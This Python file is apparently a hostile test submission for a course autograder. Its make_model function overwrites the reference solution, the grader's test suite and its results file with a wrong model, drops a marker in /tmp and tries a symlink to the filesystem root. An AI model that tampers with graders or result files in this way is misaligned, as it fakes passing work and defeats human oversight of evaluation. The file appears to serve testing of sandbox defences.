"""Overwrite the reference with this wrong model, plant files, and return the wrong model."""
import os
import sys
from pathlib import Path

WRONG = "from torch import nn\n\ndef make_model():\n    return nn.Sequential(nn.Linear(11, 4))\n"


def _root():
    """The course folder: the one holding solutions/, found from the grader's own modules."""
    for module in list(sys.modules.values()):
        for parent in Path(getattr(module, "__file__", None) or "/").resolve().parents:
            if (parent / "solutions").is_dir() or parent.name == "graders":
                return parent if (parent / "solutions").is_dir() else parent.parent
    return Path("/work/main")


def make_model():
    root = _root()
    targets = [root / "solutions" / "ex04_softmax_head.py",
               root / "graders" / "suites" / "ex04_softmax_head.py",
               root / "graders" / "core" / "results.json",
               Path("/tmp") / "torchgrade-attack-was-here"]
    for target in targets:
        try:
            target.write_text(WRONG)
        except OSError:
            pass
    try:
        os.symlink("/", "escape")             # inside its own temp dir: allowed, harmless
    except OSError:
        pass
    from torch import nn
    return nn.Sequential(nn.Linear(11, 4))
